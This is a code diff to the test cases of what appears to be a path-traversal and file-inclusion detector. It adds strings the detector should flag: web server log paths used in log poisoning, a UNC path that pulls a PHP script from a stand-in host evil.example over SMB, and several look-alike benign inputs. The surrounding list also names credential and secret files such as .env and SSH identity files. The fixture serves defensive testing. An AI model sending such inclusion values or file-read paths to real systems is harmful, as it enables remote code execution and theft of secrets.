@@ -58,6 +58,10 @@ const attacks: [string, 1 | 2 | 3, Partial<DetectorContext>?][] = [
   ['/.svn/entries', 1, PATH],
   ['/.claude/settings.json', 1, PATH],
   ['/var/log/apache2/access.log', 1],
+  // a web server's logs wherever it is installed: what log poisoning includes
+  ['/usr/local/apache2/logs/error_log', 1],
+  ['C:\\xampp\\apache\\logs\\access.log', 1],
+  ['/opt/lampp/logs/access_log', 1],
   ['/var/www/html/.env', 1],
   ['/home/kim/.ssh/identity', 1], // the SSH identity file, below .ssh/
   ['/backup.sql', 1, PATH], // backups and dumps asked of the web server (CRS 920440's restricted extensions)
@@ -83,6 +87,8 @@ const attacks: [string, 1 | 2 | 3, Partial<DetectorContext>?][] = [
   ['\\\\127.0.0.1\\c$\\windows\\win.ini', 1],
   ['\\\\localhost\\admin$\\', 1],
   ['\\\\fileserver\\share\\docs', 2],
+  // a script on another machine's share, as the whole value: included over SMB
+  ['\\\\evil.example\\share\\s.php', 1, { source: 'body', name: 'page' }],
   // weaker
   ['backup.sql.zip', 3],
   ['/tmp/x', 2],
@@ -106,6 +112,8 @@ const attacks: [string, 1 | 2 | 3, Partial<DetectorContext>?][] = [
 
 const benign: [string, Partial<DetectorContext>?][] = [
   ['wait...'],
+  ['copy it from \\\\fs01\\scripts\\deploy.ps1 please', { source: 'body', name: 'note' }],
+  ['/app/logs/access.log'],
   ['1.2..3'],
   ['version 2.0...3.1'],
   ['Hmm... / ok'],
